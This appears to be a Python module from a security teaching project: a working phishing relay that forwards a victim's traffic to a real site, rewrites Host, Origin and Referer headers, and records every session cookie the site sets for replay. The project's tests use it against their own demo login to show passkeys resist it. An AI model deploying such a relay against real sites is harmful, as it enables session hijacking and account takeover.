"""A phishing relay: a look-alike site on another origin that passes every request on to the real one.

What tools such as evilginx do, in a few lines: the victim browses the
relay, which sends each request to the real site and each answer back,
so the victim sees the real pages, types a real password and code, and
gets logged in, while the relay keeps every session cookie the real site
sets. Replaying those cookies, the attacker is logged in as the victim.
The docs run it against step 10 (it works) and step 11's passkeys (the
browser signs the relay's origin, which the real site refuses); the
browser tests do the same in Chromium.
"""

import contextlib
import http.client
import threading
from http.cookies import SimpleCookie
from http.server import BaseHTTPRequestHandler
from http.server import ThreadingHTTPServer
from urllib.parse import urlsplit

# Headers that belong to one connection, not to the request or answer: not passed on (RFC 9110, 7.6.1).
HOP_BY_HOP = {"connection", "keep-alive", "transfer-encoding", "te", "trailer", "upgrade", "proxy-connection"}


class Relay:
    """A relay to `target` (http://HOST:PORT), once started: its own `url`, and the cookies it saw the site set."""

    def __init__(self, target: str, host: str = "localhost"):
        self.target = urlsplit(target)
        self.stolen: dict[str, str] = {}  # cookie name -> value, as the real site set them
        relay = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                relay.forward(self)

            do_POST = do_GET

            def log_message(self, format, *args):  # quiet: the tests read what was relayed instead
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://{host}:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def forward(self, handler: BaseHTTPRequestHandler) -> None:
        """Send the victim's request on to the real site, as the victim's browser would have, and its answer back."""
        length = int(handler.headers.get("Content-Length") or 0)
        body = handler.rfile.read(length) if length else None
        headers = {name: value for name, value in handler.headers.items() if name.lower() not in HOP_BY_HOP}
        # The real site's own name, so that its host check lets the request in.
        headers["Host"] = self.target.netloc
        for name in ("Origin", "Referer"):  # what a browser would send on the real site
            if name in headers:
                headers[name] = headers[name].replace(self.url, f"{self.target.scheme}://{self.target.netloc}")
        connection = http.client.HTTPConnection(self.target.hostname, self.target.port, timeout=30)
        try:
            connection.request(handler.command, handler.path, body=body, headers=headers)
            answer = connection.getresponse()
            content = answer.read()
        finally:
            connection.close()
        handler.send_response(answer.status, answer.reason)
        for name, value in answer.getheaders():
            if name.lower() in HOP_BY_HOP or name.lower() == "content-length":
                continue
            if name.lower() == "set-cookie":
                cookie = SimpleCookie()
                cookie.load(value)
                for morsel in cookie.values():
                    self.stolen[morsel.key] = morsel.value
            handler.send_header(name, value)
        handler.send_header("Content-Length", str(len(content)))
        handler.end_headers()
        handler.wfile.write(content)


@contextlib.contextmanager
def relay_to(target: str, host: str = "localhost"):
    """A Relay to `target`, serving on a free loopback port until the block ends."""
    relay = Relay(target, host)
    relay.thread.start()
    try:
        yield relay
    finally:
        relay.server.shutdown()
        relay.server.server_close()
